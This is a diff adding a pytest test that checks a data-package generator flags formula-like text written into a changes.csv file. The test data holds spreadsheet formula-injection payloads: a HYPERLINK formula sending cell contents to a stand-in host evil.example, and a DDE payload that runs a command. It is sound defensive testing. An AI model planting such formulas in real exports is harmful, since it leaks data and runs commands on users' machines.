@@ -285,3 +285,29 @@ def test_a_correction_merged_without_a_new_version_is_in_the_feed_from_its_commi
     assert entries[entry][:2] == ("Correction: Điểm 1.1.0", "2026-04-01T10:00:00+07:00")
     assert [e for e in entries if e.startswith("urn:minhbach:correction:")] == [entry]
     assert f"urn:minhbach:release:diem:{release}" in entries
+
+
+def test_descriptor_text_that_changes_csv_carries_is_warned_when_it_starts_like_a_formula(tmp_path):
+    """A correction's notes, the version and the names are written into tai-ve/changes.csv as they are: one that
+    starts like a formula gets the ``formula-like`` warning a table's cell or a session's text gets, at its line
+    (hostile audit round 8, finding 3). A signed number or a lone '-' is none, as in a cell."""
+    from conftest import Package, Resource, settings_for
+
+    from generator import pipeline
+
+    text = Package("p", (Resource("t", ("id:integer",), rows="1\n"),)).text.replace("  - name: t\n", "  - name: -t\n")
+    text += """version: "=1+1"
+x-minhbach:
+  corrections:
+    - resource: -t
+      note_vi: '=HYPERLINK("http://evil.example/?leak="&A1,"Nguồn")'
+      note_en: "+cmd|' /C calc'!A0"
+    - resource: -t
+      note_vi: "-5.5"
+      note_en: "-"
+"""
+    Package("p", (Resource("t", ("id:integer",), rows="1\n"),)).write(tmp_path, text)
+    found = [(p.code, p.line, p.field, p.params_dict()["char"]) for p in pipeline.check(settings_for(tmp_path)).problems
+             if p.code == "formula-like"]
+    assert sorted(found) == [("formula-like", 3, "name", "-"), ("formula-like", 8, "version", "="),
+                             ("formula-like", 12, "note_vi", "="), ("formula-like", 13, "note_en", "+")]
